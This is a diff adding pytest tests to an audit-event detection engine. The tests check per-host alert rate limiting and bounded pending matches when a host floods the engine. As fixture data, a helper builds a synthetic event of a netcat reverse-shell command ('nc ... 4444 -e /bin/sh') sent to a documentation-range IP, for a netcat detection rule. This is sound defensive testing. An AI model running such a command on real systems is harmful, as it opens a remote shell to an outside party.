@@ -17,6 +17,7 @@ from pathlib import Path
 import pytest
 
 from audisp_eql import limits
+from audisp_eql.rules import load_rules
 from audisp_eql.source import make_event_source
 from conftest import ROOT
 from harness import pipelines
@@ -161,3 +162,70 @@ def test_fleet_replay_is_deterministic_and_keeps_each_nodes_order(shared: Path) 
         own = [line for line in one.splitlines(keepends=True)
                if line.startswith(f"node={name} ".encode())]
         assert own == node_log(shared, name, 20, 2 + names.index(name))
+
+
+def _nc(node: str, serial: int) -> bytes:
+    return b"".join(prefixed(node, exec_event(serial, ["nc", "203.0.113.7", "4444", "-e",
+                                                       "/bin/sh"], "/usr/bin/nc",
+                                              pid=4000 + serial)))
+
+
+def test_a_noisy_host_cannot_use_up_a_rules_burst_for_the_others() -> None:
+    """The rate limit is per rule and host: 50 netcat alerts from one host are
+    cut to the burst, the other host's one alert of the same rule goes out."""
+    from audisp_eql.outputs import AlertSink, RateLimiter
+    from audisp_eql.outputs.base import Output
+
+    class Collect(Output):
+        def __init__(self) -> None:
+            super().__init__()
+            self.got: list[dict] = []
+
+        def emit(self, alert):  # type: ignore[no-untyped-def]
+            self.got.append(alert)
+
+    out = Collect()
+    sink = AlertSink([out], RateLimiter(burst=3, interval=60.0))
+    rules = load_rules([ROOT / "rules" / "execution_netcat_program_exec.toml"]).rules
+    data = b"".join(_nc("noisy", i) for i in range(1, 51)) + _nc("quiet", 99)
+    _docs, alerts, _p = pipelines.run(data, "python", rules=rules, local_host=False)
+    assert len(alerts) == 51
+    for alert in alerts:
+        sink.emit(alert, now=100.0)
+    assert Counter(a["host"]["name"] for a in out.got) == {"noisy": 3, "quiet": 1}
+    sink.close()
+    [summary] = [a for a in out.got if "audisp_eql" in a]
+    assert summary["host"]["name"] == "noisy" and summary["audisp_eql"]["suppressed"] == 47
+
+
+def test_rate_limit_windows_are_bounded_and_closed_early_with_their_count() -> None:
+    from audisp_eql.outputs import RateLimiter
+    with limits.lowered(MAX_RATE_WINDOWS=4):
+        limiter = RateLimiter(burst=1, interval=60.0)
+    alert = {"rule": {"id": "r"}, "host": {"name": "noisy"}}
+    out = [a for _ in range(3) for a in limiter.admit(alert, now=1.0)]   # 1 out, 2 held back
+    for i in range(10):                     # many hosts: noisy's window is the oldest ...
+        out += limiter.admit({"rule": {"id": f"r{i % 3}"}, "host": {"name": f"h{i}"}}, now=2.0)
+    assert limiter.open_windows() == 4 and limiter.evicted_windows == 7
+    [summary] = [a for a in out if "audisp_eql" in a]  # ... closed early, its count kept
+    assert summary["host"]["name"] == "noisy" and summary["audisp_eql"]["suppressed"] == 2
+
+
+def test_pending_matches_of_a_quiet_host_survive_a_flood_through_the_pipeline(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A real stateful matcher (pairs of one pid's documents within 10 s, as in
+    test_engine_state) behind the real pipeline: one host opens thousands of
+    pairs, another one; past the per-rule bound the flooding host's oldest
+    go, and the quiet host's pair still completes."""
+    from audisp_eql.engine import engine as engine_module
+    from test_engine_state import PairMatcher
+    [rule] = load_rules([ROOT / "rules" / "execution_netcat_program_exec.toml"]).rules
+    monkeypatch.setitem(engine_module.STATEFUL_MATCHERS, "pair-test", PairMatcher)
+    monkeypatch.setattr(type(rule.compiled.query), "kind", "pair-test", raising=False)
+    data = _nc("quiet", 1) + b"".join(_nc("flood", i) for i in range(10, 400)) + \
+        b"".join(prefixed("quiet", exec_event(500, ["nc", "x"], "/usr/bin/nc", pid=4001)))
+    with limits.lowered(MAX_PENDING_PER_RULE=32, MAX_PENDING_TOTAL=48):
+        _docs, alerts, pipeline = pipelines.run(data, "python", rules=[rule], local_host=False)
+    assert [(a["host"]["name"], a["process"]["pid"]) for a in alerts] == [("quiet", 4001)]
+    stats = pipeline.engine.stats()  # type: ignore[union-attr]
+    assert stats["evicted_partial_matches"] > 0 and stats["pending_partial_matches"] == 32
